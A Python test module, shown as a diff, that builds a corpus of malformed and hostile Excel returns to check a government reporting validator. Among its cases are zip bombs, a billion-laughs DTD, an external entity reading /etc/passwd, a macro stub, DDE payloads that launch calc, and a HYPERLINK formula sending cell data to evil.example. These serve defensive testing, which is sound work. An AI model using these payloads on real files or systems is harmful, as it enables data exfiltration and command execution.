@@ -1,0 +1,971 @@
+"""A corpus of hostile and mistaken returns, each built here as bytes, with what it must produce.
+
+:func:`build` takes a workspace whose templates are issued (the small plan of
+``tests/conftest.py``) and returns a :class:`Corpus`: every :class:`Case` names its file, its
+bytes, the issue codes (from ``nsm_excel/catalogue.py``) that must appear, the status it must
+end with and, for returns that are legitimately accepted, the values that must be stored.
+Nothing is kept as a binary file: the cases are made from filled templates edited with
+openpyxl, zip packages written with :mod:`zipfile`, raw XML and raw bytes.
+
+Run ``python -m tests.corpus OUTDIR`` to make a workspace in OUTDIR with the whole corpus in its
+inbox and ``corpus.txt`` listing what each file must produce; then ``nsm validate -w OUTDIR
+--details`` shows what the validator says.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import struct
+import sys
+import tempfile
+import zipfile
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+from typing import Any
+
+from openpyxl import load_workbook
+from openpyxl.workbook.workbook import Workbook
+
+from nsm_excel import filler
+from nsm_excel.generate import generate
+from nsm_excel.intake import validate_inbox
+from nsm_excel.periods import period_or_raise
+from nsm_excel.workspace import Workspace
+from tests.conftest import make_workspace
+from tests.returns import TODAY, edit, filled, locate
+
+MIB = 1024 * 1024
+OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+ACCEPTED, REJECTED, DUPLICATE, WAITING = "accepted", "rejected", "duplicate", "waiting"
+ENTITIES = (
+    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(
+        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
+        for n in range(1, 10)
+    )
+    + b"]>"
+)
+EXTERNAL_ENTITY = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+RTL_EMOJI = "تم إنجاز العمل 📊 — העבודה הושלמה ✅ 👩‍👩‍👧 Puna u krye."
+ALBANIAN_NAME = "Raporti i MB-së për gjashtëmujorin e parë — Çështjet ë Ë ç.xlsx"
+
+Cell = tuple[str, str, str]  # sheet, row code (or Cover field), column key
+Change = Callable[[Workbook], Any]
+
+
+@dataclass(frozen=True)
+class Case:
+    """One file of the corpus and what the validator must make of it."""
+
+    name: str  # short and unique
+    file: str  # the name it has in the inbox
+    data: bytes
+    codes: tuple[str, ...] = ()  # catalogue codes that must be among the file's issues
+    status: str = REJECTED
+    about: str = ""
+    exact: bool = False  # the issues are exactly ``codes`` (in any order), nothing more
+    values: tuple[tuple[Cell, Any], ...] = ()  # stored values of an accepted return
+    institution: str = ""  # the institution the content names ("" when unidentified)
+    age: int = 0  # seconds before now for the file's modification time
+    mode: int | None = None  # file permissions to set in the inbox
+    growing: bool = False  # a writer keeps changing the file while the run reads it
+
+
+@dataclass
+class Corpus:
+    cases: list[Case]
+    earlier: dict[str, bytes] = field(default_factory=dict)  # files of a run before the corpus
+
+    def by_name(self, name: str) -> Case:
+        return next(c for c in self.cases if c.name == name)
+
+
+# --- zip packages, OLE containers, raw text ---
+
+
+def parts(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def package(
+    content: Mapping[str, bytes], compression: int = zipfile.ZIP_DEFLATED, level: int = 6
+) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression, compresslevel=level) as archive:
+        for name, body in content.items():
+            archive.writestr(name, body)
+    return buffer.getvalue()
+
+
+def repack(data: bytes, changes: Mapping[str, bytes]) -> bytes:
+    """``data`` with parts replaced or added."""
+    return package({**parts(data), **changes})
+
+
+def with_dtd(data: bytes, part: str, dtd: bytes) -> bytes:
+    """The part ``part`` of ``data`` with a document type declared after its XML declaration."""
+    body = parts(data)[part]
+    head, _, rest = body.partition(b"?>")
+    return repack(data, {part: head + b"?>" + dtd + rest})
+
+
+def content_types(data: bytes, *overrides: tuple[str, str]) -> bytes:
+    text = parts(data)["[Content_Types].xml"].decode()
+    extra = "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in overrides)
+    return text.replace("</Types>", extra + "</Types>").encode()
+
+
+def compound_file(streams: Mapping[str, bytes]) -> bytes:
+    """A small OLE compound file (version 3, 512-byte sectors) holding ``streams``.
+
+    Every stream is padded to 4096 bytes so that it lives in regular sectors (no mini stream).
+    Sector 0 is the FAT, sector 1 the directory, then the streams one after the other.
+    """
+    end, free, fat_sector, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
+    bodies = [body.ljust(max(4096, -(-len(body) // 512) * 512), b"\0") for body in streams.values()]
+    fat = [fat_sector, end]
+    starts = []
+    for body in bodies:
+        starts.append(len(fat))
+        count = len(body) // 512
+        fat += [len(fat) + i + 1 for i in range(count - 1)] + [end]
+    assert len(fat) <= 128 and len(streams) <= 3
+    header = bytearray(512)
+    header[:8] = OLE_MAGIC
+    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
+    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
+    struct.pack_into("<109I", header, 76, 0, *[free] * 108)
+    directory = bytearray()
+    names = ["Root Entry", *streams]
+    for at, name in enumerate(names):
+        entry = bytearray(128)
+        encoded = name.encode("utf-16-le") + b"\0\0"
+        entry[: len(encoded)] = encoded
+        struct.pack_into("<HBB", entry, 64, len(encoded), 5 if at == 0 else 2, 1)
+        child = 1 if at == 0 else none
+        right = at + 1 if 0 < at < len(names) - 1 else none
+        struct.pack_into("<III", entry, 68, none, right, child)
+        start, size = (end, 0) if at == 0 else (starts[at - 1], len(streams[name]))
+        struct.pack_into("<IQ", entry, 116, start, size)
+        directory += entry
+    directory = directory.ljust(512, b"\0")
+    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
+    return bytes(header) + fat_bytes + bytes(directory) + b"".join(bodies)
+
+
+def biff_workbook() -> bytes:
+    """The start of a BIFF8 workbook stream: a BOF record, a sheet name, an EOF record."""
+    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6)
+    return bof + struct.pack("<HH", 0x000A, 0)
+
+
+def encrypted_package() -> bytes:
+    """What Excel writes for a workbook with a password to open: an OLE container of streams."""
+    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
+    body = struct.pack("<Q", 20000) + bytes(range(256)) * 8
+    return compound_file({"EncryptionInfo": info, "EncryptedPackage": body})
+
+
+# --- edits of filled templates ---
+
+
+def puts(data: bytes, *cells: tuple[str, str, str, Any]) -> bytes:
+    """``data`` with each (sheet, row code, key, value) typed in, and nothing else changed."""
+
+    def change(book: Workbook) -> None:
+        for sheet, code, key, value in cells:
+            book[sheet][locate(book, sheet, code, key)].value = value
+
+    return edit(data, change)
+
+
+def as_text(sheet: str, code: str, key: str, text: str) -> Change:
+    """Type ``text`` into a cell as text even when it starts with '=' (a quote prefix in Excel)."""
+
+    def change(book: Workbook) -> None:
+        cell = book[sheet][locate(book, sheet, code, key)]
+        cell.value = text
+        cell.data_type = "s"
+
+    return change
+
+
+def strip_identity(book: Workbook) -> None:
+    book.custom_doc_props.props = []  # type: ignore[attr-defined]
+    for name in list(book.defined_names):
+        if name.startswith("NSM_") and "LIST" not in name:
+            del book.defined_names[name]
+    for row in book["Identity"].iter_rows(min_row=2):
+        row[1].value = None
+    book["Cover"][locate(book, "Cover", "template_id", "value")].value = None
+
+
+def unprotect(book: Workbook) -> None:
+    for name in ("Cover", "Measures", "Indicators"):
+        book[name].protection.sheet = False
+    book.security = None
+
+
+def insert_row(book: Workbook) -> None:
+    ws = book["Measures"]
+    ws.insert_rows(6)
+    ws["A6"] = "A.9.9"
+    ws["K6"] = "a measure that was never in the plan"
+
+
+def sort_rows(book: Workbook) -> None:
+    ws = book["Measures"]
+    for column in range(1, ws.max_column + 1):
+        top, below = ws.cell(5, column), ws.cell(6, column)
+        top.value, below.value = below.value, top.value
+
+
+def rename_sheet(book: Workbook) -> None:
+    book["Measures"].title = "Masat"
+
+
+def hide_row(book: Workbook) -> None:
+    book["Measures"].row_dimensions[6].hidden = True
+
+
+def merge(book: Workbook) -> None:
+    book["Measures"].merge_cells("K5:L6")
+
+
+def graft_identity(other: bytes) -> Change:
+    def change(book: Workbook) -> None:
+        book["Identity"]["B2"].value = load_workbook(io.BytesIO(other))["Identity"]["B2"].value
+
+    return change
+
+
+def external_link(data: bytes) -> bytes:
+    link = (
+        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+        ' r:id="rId1"/></externalLink>'
+    )
+    rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/externalLinkPath" Target="file:///C:/Users/financa/Buxheti%202026.xlsx"'
+        ' TargetMode="External"/></Relationships>'
+    )
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+    return repack(
+        data,
+        {
+            "xl/externalLinks/externalLink1.xml": link.encode(),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": rels.encode(),
+            "[Content_Types].xml": content_types(
+                data, ("xl/externalLinks/externalLink1.xml", kind)
+            ),
+        },
+    )
+
+
+def with_macros(data: bytes) -> bytes:
+    types = parts(data)["[Content_Types].xml"].replace(
+        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
+    )
+    vba = OLE_MAGIC + b"\0" * 504 + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Auto_Open()\r\n'
+    return repack(data, {"xl/vbaProject.bin": vba, "[Content_Types].xml": types})
+
+
+def zeros_part(data: bytes, size: int) -> bytes:
+    """``data`` plus a deflated part of ``size`` zero bytes (about 1000:1)."""
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr("xl/media/image1.png", bytes(size), zipfile.ZIP_DEFLATED)
+    return buffer.getvalue()
+
+
+def many_parts(data: bytes, count: int) -> bytes:
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a") as archive:
+        for n in range(count):
+            archive.writestr(f"xl/media/p{n}.bin", b"")
+    return buffer.getvalue()
+
+
+def flip_checksum(data: bytes) -> bytes:
+    """A stored package whose workbook part no longer matches its checksum."""
+    stored = package(parts(data), zipfile.ZIP_STORED)
+    return stored.replace(b"<workbook ", b"<wOrkbook ", 1)
+
+
+def ods() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
+        archive.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
+    return buffer.getvalue()
+
+
+# --- the corpus ---
+
+
+def _file_cases() -> list[Case]:
+    """Files judged by their bytes alone: they never reach a spreadsheet library."""
+    csv = "Kodi;Statusi;Shpenzuar\nA.1.1;Në zbatim;1 250 000\n".encode()
+    html = b"<!DOCTYPE html><html><head><meta charset=utf-8></head><body><table><tr><td>MB"
+    xml_2003 = b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook/>'
+    docx = package({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
+    return [
+        Case("empty", "empty.xlsx", b"", ("file-empty",), about="0 bytes"),
+        Case(
+            "text-renamed",
+            "text-renamed.xlsx",
+            "Raporti do të dërgohet me postë javën tjetër.\n".encode(),
+            ("file-not-excel",),
+            about="a plain text note renamed .xlsx",
+        ),
+        Case("csv-renamed", "csv-renamed.xlsx", csv, ("file-not-excel",), about="CSV renamed"),
+        Case(
+            "pdf-renamed",
+            "pdf-renamed.xlsx",
+            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
+            ("file-not-excel",),
+            about="a PDF renamed .xlsx",
+        ),
+        Case("html-renamed", "html-renamed.xls", html, ("file-not-excel",), about="web page"),
+        Case("xml-2003", "xml-2003.xml", xml_2003, ("file-not-excel",), about="SpreadsheetML"),
+        Case("ods", "report.ods", ods(), ("file-not-excel",), about="OpenDocument"),
+        Case("docx-renamed", "docx-renamed.xlsx", docx, ("file-not-excel",), about="Word file"),
+        Case(
+            "legacy-xls",
+            "legacy.xls",
+            compound_file({"Workbook": biff_workbook()}),
+            ("file-legacy-xls",),
+            about="Excel 97-2003 (OLE container with a Workbook stream)",
+        ),
+        Case(
+            "encrypted",
+            "encrypted.xlsx",
+            encrypted_package(),
+            ("file-encrypted",),
+            about="a password to open (OLE container with EncryptionInfo/EncryptedPackage)",
+        ),
+        Case(
+            "too-large",
+            "too-large.xlsx",
+            b"PK\x03\x04" + bytes(21 * MIB),
+            ("file-too-large",),
+            about="21 MB, over the 20 MB limit",
+        ),
+    ]
+
+
+def build(space: Workspace) -> Corpus:
+    """Every case, made from the templates issued in ``space`` (it issues a few more)."""
+    assert space.config.period.code == "2026-H1", "the corpus is made for the small plan"
+    old_version = filled(space, "MB", seed=11)
+    generate(space, institutions=["MB"], force=True)  # old_version is now superseded
+    previous = period_or_raise("2025-H2")
+    generate(space, period=previous, institutions=["MB"])
+    other_period = filler.fill(
+        space.template_path("MB", previous).read_bytes(), filler.Filling(1, TODAY)
+    )
+    with tempfile.TemporaryDirectory() as folder:
+        elsewhere = make_workspace(Path(folder) / "elsewhere")
+        generate(elsewhere, institutions=["MB"])
+        foreign = filled(elsewhere, "MB", seed=2)
+
+    mb = filled(space, "MB", seed=5)
+    akpa = filled(space, "AKPA", seed=4)
+    cases = _file_cases()
+    cases += _package_cases(mb)
+    cases += _identity_cases(space, mb, old_version, other_period, foreign)
+    for made in (_structure_cases(mb), _value_cases(mb, akpa), _text_cases(mb)):
+        cases += [replace(c, institution=c.institution or "MB") for c in made]
+    duplicate = filled(space, "AKPA", seed=9)
+    cases += _delivery_cases(
+        space, next(c for c in cases if c.name == "hidden-rows").data, duplicate
+    )
+    names = [c.name for c in cases]
+    files = [c.file for c in cases]
+    assert len(set(names)) == len(names) and len(set(files)) == len(files)
+    return Corpus(cases, earlier={"AKPA_2026-H1.xlsx": duplicate})
+
+
+def _package_cases(mb: bytes) -> list[Case]:
+    half = len(mb) // 2
+    return [
+        Case(
+            "truncated-zip",
+            "truncated.xlsx",
+            mb[:half],
+            ("file-corrupt",),
+            about="the first half of a filled template (a download cut short)",
+        ),
+        Case("bad-checksum", "bad-checksum.xlsx", flip_checksum(mb), ("file-corrupt",)),
+        Case(
+            "zip-bomb-size",
+            "zip-bomb-size.xlsx",
+            zeros_part(mb, 60 * MIB),
+            ("file-zip-bomb",),
+            about="a part that unpacks to 60 MB (over the 50 MB part limit)",
+        ),
+        Case(
+            "zip-bomb-ratio",
+            "zip-bomb-ratio.xlsx",
+            zeros_part(mb, 2 * MIB),
+            ("file-zip-bomb",),
+            about="a 2 MB part compressed about 1000:1 (over 200:1)",
+        ),
+        Case(
+            "zip-bomb-parts",
+            "zip-bomb-parts.xlsx",
+            many_parts(mb, 5001),
+            ("file-zip-bomb",),
+            about="more than 5,000 parts",
+        ),
+        Case(
+            "billion-laughs",
+            "billion-laughs.xlsx",
+            with_dtd(mb, "xl/worksheets/sheet3.xml", ENTITIES),
+            ("file-xml-entities",),
+            about="nested entities in a worksheet part",
+        ),
+        Case(
+            "external-entity",
+            "external-entity.xlsx",
+            with_dtd(mb, "xl/workbook.xml", EXTERNAL_ENTITY),
+            ("file-xml-entities",),
+            about="an entity that reads /etc/passwd",
+        ),
+        Case(
+            "macros",
+            "macros.xlsm",
+            with_macros(mb),
+            ("file-macro-enabled",),
+            about="a .xlsm with a VBA part",
+        ),
+        Case(
+            "external-link",
+            "external-link.xlsx",
+            external_link(mb),
+            ("file-external-links",),
+            about="a link to another workbook on a local disk",
+        ),
+    ]
+
+
+def _identity_cases(
+    space: Workspace, mb: bytes, old: bytes, other_period: bytes, foreign: bytes
+) -> list[Case]:
+    akpa = filled(space, "AKPA", seed=1)
+    return [
+        Case(
+            "other-institution",
+            "MB_2026-H1.xlsx",
+            filled(space, "AKPA", seed=2),
+            ("return-file-renamed",),
+            ACCEPTED,
+            "AKPA's filled template sent under MB's file name: the content decides",
+            exact=True,
+            institution="AKPA",
+        ),
+        Case(
+            "other-period",
+            "other-period.xlsx",
+            other_period,
+            ("return-wrong-period",),
+            about="MB's template for 2025-H2",
+            institution="MB",
+        ),
+        Case(
+            "older-version",
+            "older-version.xlsx",
+            old,
+            ("return-superseded-version",),
+            about="version 1 of MB's template after version 2 was issued",
+            exact=True,
+            institution="MB",
+        ),
+        Case(
+            "unknown-identity",
+            "unknown-identity.xlsx",
+            foreign,
+            ("return-unknown-template",),
+            about="a template issued by another secretariat",
+            exact=True,
+        ),
+        Case(
+            "identity-removed",
+            "identity-removed.xlsx",
+            edit(mb, strip_identity),
+            ("return-no-identity",),
+            about="custom property, defined names, Identity sheet and Cover id all removed",
+            exact=True,
+        ),
+        Case(
+            "identity-conflict",
+            "identity-conflict.xlsx",
+            edit(mb, graft_identity(akpa)),
+            ("return-identity-conflict",),
+            about="the Identity sheet of AKPA's template pasted into MB's",
+            exact=True,
+        ),
+        Case(
+            "identity-edited",
+            "identity-edited.xlsx",
+            puts(mb, ("Cover", "institution", "value", "AKPA")),
+            ("return-identity-changed",),
+            about="the Cover's institution code typed over",
+            institution="MB",
+        ),
+    ]
+
+
+def _structure_cases(mb: bytes) -> list[Case]:
+    def case(name: str, change: Change, code: str, about: str, **more: Any) -> Case:
+        return Case(name, f"{name}.xlsx", edit(mb, change), (code,), about=about, **more)
+
+    return [
+        case(
+            "protection-removed",
+            unprotect,
+            "return-protection-removed",
+            "sheet and workbook protection removed, content intact",
+            status=ACCEPTED,
+            exact=True,
+        ),
+        Case(
+            "locked-changed",
+            "locked-changed.xlsx",
+            puts(mb, ("Measures", "A.1.1", "title", "Another title")),
+            ("return-locked-changed",),
+            exact=True,
+            about="a measure's title typed over",
+        ),
+        case(
+            "row-deleted",
+            lambda b: b["Measures"].delete_rows(6),
+            "return-row-removed",
+            "",
+            exact=True,
+        ),
+        case("row-inserted", insert_row, "return-row-added", "a measure row added"),
+        case("rows-sorted", sort_rows, "return-rows-reordered", "two measure rows swapped"),
+        case("sheet-renamed", rename_sheet, "return-sheet-renamed", "Measures renamed Masat"),
+        case(
+            "sheet-deleted",
+            lambda b: b.remove(b["Indicators"]),
+            "return-sheet-missing",
+            "the Indicators sheet deleted",
+            exact=True,
+        ),
+        case(
+            "sheet-added",
+            lambda b: b.create_sheet("Shënime"),
+            "return-sheet-added",
+            "a sheet of notes added",
+            exact=True,
+        ),
+        case("merged-cells", merge, "return-merged-cells", "K5:L6 merged over answers"),
+        case(
+            "hidden-rows",
+            hide_row,
+            "return-hidden-rows",
+            "a measure row hidden",
+            status=ACCEPTED,
+            exact=True,
+            age=600,
+        ),
+        Case(
+            "formula-locked",
+            "formula-locked.xlsx",
+            puts(mb, ("Measures", "A.1.1", "planned_cost", "=0*1")),
+            ("return-formula",),
+            exact=True,
+            about="a formula in a pre-filled cell",
+        ),
+    ]
+
+
+def _value_cases(mb: bytes, akpa: bytes) -> list[Case]:
+    wrong_type: list[tuple[str, str, str, str, Any, str]] = [
+        ("MB", "Measures", "A.1.1", "status", 42, "return-bad-status"),
+        ("MB", "Measures", "A.1.1", "spent_state", "a lot", "return-bad-amount"),
+        ("MB", "Measures", "A.1.1", "spent_donor", True, "return-bad-amount"),
+        ("MB", "Measures", "A.1.1", "completion_date", "soon", "return-bad-date"),
+        ("MB", "Indicators", "I.A.1.1.1", "actual", "perhaps", "return-bad-yes-no"),
+        ("MB", "Indicators", "IO.A.2.1", "actual", "forty", "return-bad-number"),
+        ("AKPA", "Indicators", "I.A.2.1.1", "actual", "many", "return-bad-number"),
+        ("AKPA", "Indicators", "I.A.2.1.1", "actual_women", "twelve", "return-bad-whole"),
+        ("AKPA", "Indicators", "I.A.2.1.1", "actual_men", 12.5, "return-bad-whole"),
+        ("MB", "Cover", "reporter_email", "value", 42, "return-bad-email"),
+        ("MB", "Cover", "submission_date", "value", "yesterday", "return-bad-date"),
+    ]
+    cases = [
+        Case(
+            f"wrong-type-{key if key != 'value' else code}-{code if key != 'value' else who}",
+            f"wrong-type-{key if key != 'value' else code}-{code if key != 'value' else who}.xlsx",
+            puts(mb if who == "MB" else akpa, (sheet, code, key, value)),
+            (expected,),
+            about=f"{value!r} in {sheet} {code} {key}",
+            institution=who,
+        )
+        for who, sheet, code, key, value, expected in wrong_type
+    ]
+    when = dt.datetime(2026, 3, 1)
+    not_text = [
+        ("Measures", "A.1.1", "progress", when),
+        ("Measures", "A.1.1", "next_steps", True),
+        ("Measures", "A.2.1", "progress", 12.5),
+        ("Indicators", "IO.A.2.1", "comment", 7),
+        ("Cover", "reporter_phone", "value", 355691234567),
+    ]
+    cases.append(
+        Case(
+            "numbers-in-text-columns",
+            "numbers-in-text-columns.xlsx",
+            puts(mb, *not_text),
+            (),
+            ACCEPTED,
+            "a date, a boolean and numbers in free-text columns are kept as text",
+            exact=True,
+            values=(
+                (("Measures", "A.1.1", "progress"), "01.03.2026"),
+                (("Measures", "A.1.1", "next_steps"), "TRUE"),
+                (("Measures", "A.2.1", "progress"), "12.5"),
+                (("Indicators", "IO.A.2.1", "comment"), "7"),
+                (("Cover", "reporter_phone", "value"), "355691234567"),
+            ),
+            institution="MB",
+        )
+    )
+    cases += _number_cases(mb) + _date_cases(mb)
+    cases.append(
+        Case(
+            "misspelled-status",
+            "misspelled-status.xlsx",
+            puts(mb, ("Measures", "A.1.1", "status", "Me vonese")),
+            ("return-bad-status",),
+            about="a dropdown value typed without its ë",
+        )
+    )
+    cases.append(
+        Case(
+            "misspelled-yes-no",
+            "misspelled-yes-no.xlsx",
+            puts(mb, ("Indicators", "I.A.1.1.1", "actual", "Po/Yess")),
+            ("return-bad-yes-no",),
+        )
+    )
+    return cases
+
+
+def _number_cases(mb: bytes) -> list[Case]:
+    first = (
+        ("A.1.1", "spent_state", "1 250 000", 1_250_000),
+        ("A.1.1", "spent_donor", "1.250.000,50", 1_250_000.5),
+        ("A.2.1", "spent_state", "1,250.50", 1250.5),
+        ("A.2.1", "spent_donor", "12,5", 12.5),
+    )
+    second = (
+        ("A.1.1", "spent_state", "1\u00a0250\u00a0000 lekë", 1_250_000),
+        ("A.1.1", "spent_donor", "ALL 1\u202f250\u202f000,50", 1_250_000.5),
+        ("A.2.1", "spent_state", "1.250,5", 1250.5),
+        ("A.2.1", "spent_donor", "2500 lek", 2500),
+    )
+    cases = []
+    for name, styles in (("separators-1", first), ("separators-2", second)):
+        cases.append(
+            Case(
+                name,
+                f"{name}.xlsx",
+                puts(mb, *[("Measures", code, key, text) for code, key, text, _ in styles]),
+                ("return-overspent",),
+                ACCEPTED,
+                "amounts typed with spaces, dots, commas, no-break spaces and currency words; "
+                "A.1.1 plans no cost for 2026, so its spending is also flagged (a warning)",
+                exact=True,
+                values=tuple((("Measures", code, key), v) for code, key, _, v in styles),
+                institution="MB",
+            )
+        )
+    for name, text, code in (
+        ("ambiguous-number", "1,250", "return-ambiguous-number"),
+        ("apostrophe-groups", "1'250'000", "return-bad-amount"),
+        ("negative-amount", "-100", "return-negative-amount"),
+    ):
+        data = puts(mb, ("Measures", "A.1.1", "spent_state", text))
+        cases.append(Case(name, f"{name}.xlsx", data, (code,), about=repr(text), exact=True))
+    percent = ("Indicators", "IO.A.2.1", "actual")
+    cases.append(
+        Case(
+            "percent-fraction",
+            "percent-fraction.xlsx",
+            puts(mb, (*percent, 0.45)),
+            ("return-percent-fraction",),
+            ACCEPTED,
+            "0.45 typed for a percent: read as 0.45 %, with a warning",
+            exact=True,
+            values=((percent, 0.45),),
+            institution="MB",
+        )
+    )
+    cases.append(
+        Case(
+            "percent-whole",
+            "percent-whole.xlsx",
+            puts(mb, (*percent, 45)),
+            (),
+            ACCEPTED,
+            "45 typed for a percent",
+            exact=True,
+            values=((percent, 45),),
+            institution="MB",
+        )
+    )
+    cases.append(
+        Case(
+            "percent-over",
+            "percent-over.xlsx",
+            puts(mb, (*percent, "145%")),
+            ("return-percent-range",),
+            exact=True,
+        )
+    )
+    return cases
+
+
+def _date_cases(mb: bytes) -> list[Case]:
+    completion = ("Measures", "A.1.1", "completion_date")
+    submission = ("Cover", "submission_date", "value")
+    forms = (
+        ("dates-as-text-1", "15.03.2025", "15/07/2026"),
+        ("dates-as-text-2", "2025-03-15", "15-07-2026"),
+        ("dates-as-text-3", 45731, " 15.07.2026 "),  # an Excel serial number; spaces around
+    )
+    cases = [
+        Case(
+            name,
+            f"{name}.xlsx",
+            puts(mb, (*completion, done), (*submission, sent)),
+            (),
+            ACCEPTED,
+            f"dates typed as {done!r} and {sent!r}",
+            exact=True,
+            values=((completion, "2025-03-15"), (submission, "2026-07-15")),
+            institution="MB",
+        )
+        for name, done, sent in forms
+    ]
+    for name, done, sent in (
+        ("impossible-date", "31.02.2025", "15.07.2026"),
+        ("impossible-month", "15.03.2025", "2026-13-01"),
+        ("two-digit-year", "15.03.25", "15.07.2026"),
+    ):
+        data = puts(mb, (*completion, done), (*submission, sent))
+        cases.append(Case(name, f"{name}.xlsx", data, ("return-bad-date",), about=f"{done} {sent}"))
+    return cases
+
+
+def _text_cases(mb: bytes) -> list[Case]:
+    evidence = ("Measures", "A.1.1", "evidence")
+    hyperlink = '=HYPERLINK("http://evil.example/steal?d="&A1,"Raporti")'
+    dde = "=cmd|' /C calc'!A0"
+    return [
+        Case(
+            "formula",
+            "formula.xlsx",
+            puts(mb, ("Measures", "A.1.1", "spent_donor", "=1000*2")),
+            ("return-formula",),
+            exact=True,
+        ),
+        Case(
+            "hyperlink-formula",
+            "hyperlink-formula.xlsx",
+            puts(mb, (*evidence, hyperlink)),
+            ("return-formula",),
+            exact=True,
+            about="=HYPERLINK that would send data out",
+        ),
+        Case(
+            "dde-formula",
+            "dde-formula.xlsx",
+            puts(mb, ("Measures", "A.1.1", "next_steps", dde)),
+            ("return-formula",),
+            exact=True,
+            about="a DDE call stored as a formula",
+        ),
+        Case(
+            "hyperlink-as-text",
+            "hyperlink-as-text.xlsx",
+            edit(mb, as_text(*evidence, hyperlink)),
+            ("return-formula-like-text",),
+            ACCEPTED,
+            "=HYPERLINK typed as text: kept as text, with a warning",
+            exact=True,
+            values=((evidence, hyperlink),),
+            institution="MB",
+        ),
+        Case(
+            "dde-as-text",
+            "dde-as-text.xlsx",
+            edit(mb, as_text("Measures", "A.1.1", "next_steps", "+cmd|' /C calc'!A0")),
+            ("return-formula-like-text",),
+            ACCEPTED,
+            "a DDE payload typed as text",
+            exact=True,
+            values=((("Measures", "A.1.1", "next_steps"), "+cmd|' /C calc'!A0"),),
+            institution="MB",
+        ),
+        Case(
+            "text-40000",
+            "text-40000.xlsx",
+            puts(mb, ("Measures", "A.1.1", "progress", "Puna vazhdon. " * 2858)),
+            ("return-text-too-long",),
+            exact=True,
+            about="40,000 characters of progress",
+        ),
+        Case(
+            "control-characters",
+            "control-characters.xlsx",
+            puts(mb, ("Measures", "A.1.1", "next_steps", "Hapi_x0007_ tjetër_x001B_[31m")),
+            ("return-control-characters",),
+            ACCEPTED,
+            "a bell and an escape sequence in the text",
+            exact=True,
+            values=((("Measures", "A.1.1", "next_steps"), "Hapi tjetër[31m"),),
+            institution="MB",
+        ),
+        Case(
+            "rtl-emoji",
+            "rtl-emoji.xlsx",
+            puts(mb, ("Measures", "A.1.1", "progress", RTL_EMOJI)),
+            (),
+            ACCEPTED,
+            "Arabic, Hebrew and emoji (with joiners) kept as typed",
+            exact=True,
+            values=((("Measures", "A.1.1", "progress"), RTL_EMOJI),),
+            institution="MB",
+        ),
+    ]
+
+
+def _delivery_cases(space: Workspace, hidden: bytes, duplicate: bytes) -> list[Case]:
+    return [
+        Case(
+            "duplicate-earlier",
+            "AKPA_2026-H1 resent.xlsx",
+            duplicate,
+            ("file-duplicate",),
+            DUPLICATE,
+            "the same bytes as a file received in an earlier run",
+            exact=True,
+            institution="AKPA",
+        ),
+        Case(
+            "duplicate-same-run",
+            "hidden-rows_kopje.xlsx",
+            hidden,
+            ("file-duplicate",),
+            DUPLICATE,
+            "a copy of hidden-rows.xlsx in the same run, received later",
+            exact=True,
+            institution="MB",
+            age=300,
+        ),
+        Case(
+            "same-institution-first",
+            "AIDA first.xlsx",
+            filled(space, "AIDA", seed=1),
+            (),
+            ACCEPTED,
+            "AIDA's first return of the run; superseded by the second",
+            exact=True,
+            institution="AIDA",
+            age=7200,
+        ),
+        Case(
+            "same-institution-second",
+            "AIDA second.xlsx",
+            filled(space, "AIDA", seed=2),
+            (),
+            ACCEPTED,
+            "AIDA's second return of the run, received an hour later",
+            exact=True,
+            institution="AIDA",
+            age=3600,
+        ),
+        Case(
+            "still-writing",
+            "still-writing.xlsx",
+            filled(space, "MB", seed=6),
+            ("file-still-writing",),
+            WAITING,
+            "a copy still in progress: the file keeps changing during the run",
+            exact=True,
+            growing=True,
+        ),
+        Case(
+            "albanian-name",
+            ALBANIAN_NAME,
+            filled(space, "MB", seed=7),
+            (),
+            ACCEPTED,
+            "a file name with spaces, a dash and Albanian letters",
+            exact=True,
+            institution="MB",
+        ),
+        Case(
+            "read-only",
+            "read-only.xlsx",
+            filled(space, "MB", seed=8),
+            (),
+            ACCEPTED,
+            "a read-only file in the inbox",
+            exact=True,
+            institution="MB",
+            mode=0o444,
+        ),
+    ]
+
+
+# --- writing the corpus for a person to look at ---
+
+
+def manifest(corpus: Corpus) -> str:
